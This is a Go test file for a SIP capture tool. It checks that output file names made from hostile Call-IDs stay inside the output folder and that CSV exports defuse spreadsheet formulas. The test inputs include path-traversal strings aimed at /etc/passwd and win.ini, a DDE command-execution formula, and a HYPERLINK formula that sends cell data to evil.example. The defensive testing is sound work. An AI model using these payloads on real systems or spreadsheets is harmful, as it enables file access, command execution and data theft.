package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestHostileCallFileName: names made from Call-IDs stay inside the output
// folder whatever the Call-ID holds, and different Call-IDs get different
// names.
func TestHostileCallFileName(t *testing.T) {
	dir := t.TempDir()
	ids := []string{
		"../../etc/passwd", "/etc/passwd", "..", ".", "...", "a/../../b", `..\..\windows\win.ini`,
		`C:\x`, "\x00nul", "", "/", "//", "~root", "call id with spaces\n", strings.Repeat("../", 200),
		strings.Repeat("x", 5000), "ok-1@192.0.2.1", "ok-1@192.0.2.1.", ".hidden", "\u202eexe.txt",
	}
	seen := map[string]string{}
	for _, id := range ids {
		p, err := callFileName(dir, id, "html")
		if err != nil {
			t.Errorf("%q: %v", id, err)
			continue
		}
		if filepath.Dir(p) != dir {
			t.Errorf("%q: %s is not directly in %s", id, p, dir)
		}
		base := filepath.Base(p)
		if strings.HasPrefix(base, ".") || len(base) > 100 || strings.ContainsAny(base, "/\\\x00\n") {
			t.Errorf("%q: unsafe name %q", id, base)
		}
		if other, ok := seen[p]; ok {
			t.Errorf("%q and %q share the name %s", id, other, base)
		}
		seen[p] = id
		if err := os.WriteFile(p, []byte("x"), 0o600); err != nil {
			t.Errorf("%q: cannot create %s: %v", id, base, err)
		}
	}
	if ents, _ := os.ReadDir(dir); len(ents) != len(ids) {
		t.Errorf("got %d files in the folder, want %d", len(ents), len(ids))
	}
}

// TestHostileCSV: cells a spreadsheet would run as formulas (OWASP CSV
// injection) come out of `messages --format csv` and `calls --format csv`
// as text: a leading tab, quoted.
func TestHostileCSV(t *testing.T) {
	file := filepath.Join(t.TempDir(), "evil.pcap")
	inv := "INVITE sip:bob@example.com SIP/2.0\r\n" +
		"Via: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bKcsv\r\n" +
		"From: <sip:=cmd|' /C calc'!A0@example.com>;tag=a1\r\n" +
		"To: <sip:@SUM(1+1)@example.com>\r\n" +
		"Call-ID: +1-csv@192.0.2.1\r\n" +
		"CSeq: 1 INVITE\r\n" +
		"User-Agent: =HYPERLINK(\"http://evil.example/?\"&A1,\"x\")\r\n" +
		"Content-Length: 0\r\n\r\n"
	busy := "SIP/2.0 486 -2+3\r\n" +
		"Via: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bKcsv\r\n" +
		"From: <sip:=cmd|' /C calc'!A0@example.com>;tag=a1\r\n" +
		"To: <sip:@SUM(1+1)@example.com>;tag=b1\r\n" +
		"Call-ID: +1-csv@192.0.2.1\r\n" +
		"CSeq: 1 INVITE\r\n" +
		"Server: @evil\r\n" +
		"Content-Length: 0\r\n\r\n"
	writeTestPcap(t, file, [][]byte{udpFrame(1, 2, 1, []byte(inv)), udpFrame(2, 1, 2, []byte(busy))})
	for _, args := range [][]string{{"messages", "--format", "csv", file}, {"calls", "--format", "csv", file}} {
		var out, errOut strings.Builder
		if code := run(args, &streams{In: strings.NewReader(""), Out: &out, ErrOut: &errOut}); code != exitOK {
			t.Fatalf("%v: exit %d: %s", args, code, errOut.String())
		}
		recs, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
		if err != nil {
			t.Fatalf("%v: %v", args, err)
		}
		formulas := 0
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
					t.Errorf("%v: cell %q starts a formula", args, cell)
				}
				if strings.HasPrefix(cell, "\t") {
					formulas++
				}
			}
		}
		if formulas < 3 {
			t.Errorf("%v: %d cells defused, want the Call-ID, User-Agent and more:\n%s", args, formulas, out.String())
		}
		if !strings.Contains(out.String(), "\"\t+1-csv@192.0.2.1\"") {
			t.Errorf("%v: the Call-ID is not quoted with a leading tab:\n%s", args, out.String())
		}
	}
}
